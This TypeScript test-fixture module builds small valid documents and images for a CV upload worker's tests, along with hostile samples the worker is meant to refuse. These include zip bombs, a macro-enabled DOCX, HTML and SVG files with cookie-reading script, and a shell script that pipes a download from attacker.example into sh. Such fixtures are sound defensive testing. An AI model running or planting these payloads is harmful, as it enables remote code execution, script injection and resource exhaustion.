/**
 * Real, small files of every allowed type, and the files that must be refused, built with code
 * (no binary fixtures in the repository): a minimal PDF writer, a zip writer for DOCX and ODT, an
 * OLE2 directory for DOC, a PNG and a baseline JPEG encoder for one flat grey block. Each opens
 * in the program it is for; the tests read them back with the same parsers the worker uses.
 */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

const enc = new TextEncoder();
const bytes = (s: string) => enc.encode(s);
const concat = (parts: readonly Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

/** The CV every text fixture holds, so the tests can look for the same lines in each. */
export const CV_LINES = [
  'Ada Lovelace',
  'Analytical Engineer',
  'Email: ada.lovelace@example.com',
  'Phone: +44 20 7946 0958',
  'Experience 2019-2023: Difference Engine maintenance',
  'Skills: Bernoulli numbers, loops, punched cards',
];

// ---------- PDF ----------

const pdfString = (s: string) => `(${s.replace(/[\\()]/g, (c) => `\\${c}`)})`;

/** A PDF of `pages` pages, each with `lines` in Helvetica (one of the 14 standard fonts: nothing to embed). */
export function pdf(pages: readonly (readonly string[])[] = [CV_LINES]): Uint8Array {
  const objects: string[] = [];
  const pageIds = pages.map((_, i) => 4 + i * 2);
  objects[1] = '<< /Type /Catalog /Pages 2 0 R >>';
  objects[2] = `<< /Type /Pages /Kids [${pageIds.map((id) => `${id} 0 R`).join(' ')}] /Count ${pages.length} >>`;
  objects[3] = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
  pages.forEach((lines, i) => {
    const content = `BT /F1 11 Tf 14 TL 72 760 Td ${lines.map((l) => `${pdfString(l)} Tj T*`).join(' ')} ET`;
    objects[pageIds[i]!] =
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${pageIds[i]! + 1} 0 R >>`;
    objects[pageIds[i]! + 1] = `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
  });
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  for (let id = 1; id < objects.length; id++) {
    offsets[id] = Buffer.byteLength(out, 'latin1');
    out += `${id} 0 obj\n${objects[id]}\nendobj\n`;
  }
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length}\n0000000000 65535 f \n`;
  for (let id = 1; id < objects.length; id++) out += `${String(offsets[id]).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(out, 'latin1'));
}

// ---------- zip ----------

export interface ZipFile {
  name: string;
  data: Uint8Array | string;
  /** Stored instead of deflated (the ODF `mimetype` entry must be). */
  store?: boolean;
  /** Declare this uncompressed size instead of the real one (a zip that lies). */
  declareSize?: number;
  /** No data of its own: the directory points this entry at the named entry's local header and data. */
  sameAs?: string;
}

/** A zip of `files`, in order, with a central directory. */
export function zip(files: readonly ZipFile[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  const written = new Map<string, { at: number; crc: number; stored: number; size: number; method: number }>();
  let offset = 0;
  for (const f of files) {
    const name = bytes(f.name);
    let entry = f.sameAs ? written.get(f.sameAs) : undefined;
    if (!entry) {
      const raw = typeof f.data === 'string' ? bytes(f.data) : f.data;
      const data = f.store ? raw : deflateRawSync(raw);
      entry = { at: offset, crc: crc32(raw), stored: data.length, size: f.declareSize ?? raw.length, method: f.store ? 0 : 8 };
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(20, 4);
      local.writeUInt16LE(entry.method, 8);
      local.writeUInt32LE(entry.crc, 14);
      local.writeUInt32LE(entry.stored, 18);
      local.writeUInt32LE(entry.size, 22);
      local.writeUInt16LE(name.length, 26);
      locals.push(local, name, data);
      written.set(f.name, entry);
      offset += 30 + name.length + data.length;
    }
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(entry.method, 10);
    central.writeUInt32LE(entry.crc, 16);
    central.writeUInt32LE(entry.stored, 20);
    central.writeUInt32LE(entry.size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(entry.at, 42);
    centrals.push(central, name);
  }
  const cd = concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return concat([...locals, cd, end]);
}

const xmlText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

const DOCX_TYPES = (main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;

/** The parts of a DOCX holding `lines`, one paragraph each; `extra` adds entries (a bomb, macros). */
export function docxFiles(lines: readonly string[] = CV_LINES, extra: readonly ZipFile[] = []): ZipFile[] {
  const body = lines.map((l) => `<w:p><w:r><w:t xml:space="preserve">${xmlText(l)}</w:t></w:r></w:p>`).join('');
  return [
    { name: '[Content_Types].xml', data: DOCX_TYPES() },
    {
      name: '_rels/.rels',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
    },
    {
      name: 'word/document.xml',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
    },
    ...extra,
  ];
}

export const docx = (lines: readonly string[] = CV_LINES, extra: readonly ZipFile[] = []) => zip(docxFiles(lines, extra));

/** A DOCX whose main part is the macro-enabled type (a DOCM renamed), with its VBA project. */
export const docm = () =>
  zip([
    { name: '[Content_Types].xml', data: DOCX_TYPES('application/vnd.ms-word.document.macroEnabled.main+xml') },
    ...docxFiles().slice(1),
    { name: 'word/vbaProject.bin', data: new Uint8Array(64) },
  ]);

/** An ODT holding `lines`, one paragraph each. */
export function odt(lines: readonly string[] = CV_LINES, mimetype = 'application/vnd.oasis.opendocument.text'): Uint8Array {
  const body = lines.map((l) => `<text:p text:style-name="P1">${xmlText(l)}</text:p>`).join('');
  return zip([
    { name: 'mimetype', data: mimetype, store: true },
    {
      name: 'META-INF/manifest.xml',
      data: `<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    },
    {
      name: 'content.xml',
      data: `<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:text>${body}</office:text></office:body></office:document-content>`,
    },
  ]);
}

/** A DOCX with an entry that expands 1,000 times: 20 MB of zeros in about 20 KB. */
export const zipBombDocx = () => docx(CV_LINES, [{ name: 'word/media/image1.png', data: new Uint8Array(20 * 1024 * 1024) }]);

/** A DOCX whose entry declares 1 KB but inflates to 5 MB: only inflating it shows the lie. */
export const lyingDocx = () =>
  docx(CV_LINES, [{ name: 'word/media/image1.png', data: new Uint8Array(5 * 1024 * 1024), declareSize: 1024 }]);

/**
 * A DOCX with 100 more entries that all point at one entry's data (the overlapping-file bomb):
 * each declares an honest 200 KB at an ordinary ratio, only their sharing gives them away.
 */
export function overlappingDocx(): Uint8Array {
  // Pseudo-random digits (a fixed LCG): text that deflates about 2:1, like real content.
  let seed = 1;
  const kernel = Array.from({ length: 200 * 1024 }, () =>
    String.fromCharCode(48 + ((seed = (seed * 1103515245 + 12345) % 2 ** 31) % 10)),
  ).join('');
  return zip([
    ...docxFiles(),
    { name: 'word/media/kernel.bin', data: kernel },
    ...Array.from({ length: 100 }, (_, i) => ({ name: `word/media/${i}.bin`, data: '', sameAs: 'word/media/kernel.bin' })),
  ]);
}

// ---------- RTF, TXT ----------

export const rtf = (lines: readonly string[] = CV_LINES) =>
  bytes(
    `{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0\\fswiss Helvetica;}}{\\colortbl;\\red0\\green0\\blue0;}{\\info{\\author Secret Author}}{\\*\\generator Test;}\\f0\\fs22 ${lines
      .map((l) => l.replace(/[\\{}]/g, (c) => `\\${c}`))
      .join('\\par\n')}\\par\n}`,
  );

export const txt = (lines: readonly string[] = CV_LINES) => bytes(`${lines.join('\n')}\n`);

// ---------- images ----------

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(concat([bytes(type), data])), 0);
  return concat([head, data, crc]);
}

/** A 1x1 RGB PNG. */
export function png(): Uint8Array {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(1, 0);
  ihdr.writeUInt32BE(1, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  return concat([
    Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Uint8Array.of(0, 0x33, 0x66, 0x99))),
    pngChunk('IEND', new Uint8Array(0)),
  ]);
}

/**
 * An 8x8 mid-grey baseline JPEG: after the level shift every coefficient is zero, so the scan is
 * one DC "category 0" and one end-of-block, each a 1-bit code of a one-symbol Huffman table.
 */
export function jpeg(): Uint8Array {
  const seg = (marker: number, body: readonly number[]) => [0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff, ...body];
  const oneSymbolTable = (classAndId: number) => [classAndId, 1, ...new Array(15).fill(0), 0];
  return Uint8Array.from([
    0xff,
    0xd8,
    ...seg(0xe0, [0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
    ...seg(0xdb, [0, ...new Array(64).fill(1)]),
    ...seg(0xc0, [8, 0, 8, 0, 8, 1, 1, 0x11, 0]),
    ...seg(0xc4, oneSymbolTable(0x00)),
    ...seg(0xc4, oneSymbolTable(0x10)),
    ...seg(0xda, [1, 1, 0x00, 0, 63, 0]),
    0x3f,
    0xff,
    0xd9,
  ]);
}

// ---------- DOC (OLE2) ----------

/**
 * An OLE2 compound file whose directory holds `streams` (a Word document: `WordDocument`): one
 * allocation-table sector, one directory sector, no stream data (only the directory is read).
 */
export function ole2(streams: readonly { name: string; type?: 1 | 2 }[] = [{ name: 'WordDocument' }, { name: '1Table' }]): Uint8Array {
  const SECTOR = 512;
  const entries = [{ name: 'Root Entry', type: 5 as const }, ...streams.map((s) => ({ name: s.name, type: s.type ?? 2 }))];
  const dirSectors = Math.ceil(entries.length / 4);
  const out = Buffer.alloc(SECTOR * (2 + dirSectors));
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(out, 0);
  out.writeUInt16LE(0x3e, 24); // minor version
  out.writeUInt16LE(3, 26); // major version 3: 512-byte sectors
  out.writeUInt16LE(0xfffe, 28); // little-endian
  out.writeUInt16LE(9, 30); // sector shift
  out.writeUInt16LE(6, 32); // mini sector shift
  out.writeUInt32LE(1, 44); // one FAT sector
  out.writeUInt32LE(1, 48); // the directory starts at sector 1
  out.writeUInt32LE(4096, 56);
  out.writeUInt32LE(0xfffffffe, 60); // no mini FAT
  out.writeUInt32LE(0xfffffffe, 68); // no DIFAT sectors
  out.writeUInt32LE(0, 76); // FAT sector 0
  for (let i = 1; i < 109; i++) out.writeUInt32LE(0xffffffff, 76 + i * 4);
  // FAT (sector 0 at file offset 512): itself, then the directory chain.
  const fat = SECTOR;
  for (let i = 0; i < 128; i++) out.writeUInt32LE(0xffffffff, fat + i * 4);
  out.writeUInt32LE(0xfffffffd, fat); // a FAT sector
  for (let s = 0; s < dirSectors; s++) out.writeUInt32LE(s === dirSectors - 1 ? 0xfffffffe : 2 + s, fat + (1 + s) * 4);
  entries.forEach((e, i) => {
    const at = SECTOR * 2 + i * 128;
    out.write(e.name, at, 'utf16le');
    out.writeUInt16LE((e.name.length + 1) * 2, at + 64);
    out[at + 66] = e.type;
    out.writeUInt32LE(0xffffffff, at + 68);
    out.writeUInt32LE(0xffffffff, at + 72);
    out.writeUInt32LE(i === 0 && entries.length > 1 ? 1 : 0xffffffff, at + 76);
    out.writeUInt32LE(0xfffffffe, at + 116);
  });
  return new Uint8Array(out);
}

// ---------- refused ----------

/** An HTML page, whatever it is named (cv.pdf). */
export const html = () =>
  bytes('<!DOCTYPE html>\n<html><head><title>CV</title></head><body><script>alert(document.cookie)</script></body></html>\n');
/** An SVG image that runs a script when opened in a browser. */
export const svgWithScript = () =>
  bytes(
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n',
  );
/** The start of a 64-bit Linux executable (ELF header). */
export function elf(): Uint8Array {
  const b = Buffer.alloc(128);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b, 0);
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // x86-64
  b.writeUInt32LE(1, 20);
  return new Uint8Array(b);
}
/** A Windows executable: the MZ header pointing at a PE signature. */
export function pe(): Uint8Array {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x14c, 0x84);
  return new Uint8Array(b);
}
/** A shell script saved as a text file. */
export const shellScript = () => bytes('#!/bin/sh\ncurl https://attacker.example/x | sh\n');
/** A plain zip of anything (not an office file). */
export const plainZip = () => zip([{ name: 'notes.txt', data: 'hello' }]);
/** One byte past the limit, of valid text. */
export const oversize = (limit: number) => new Uint8Array(limit + 1).fill(0x61);
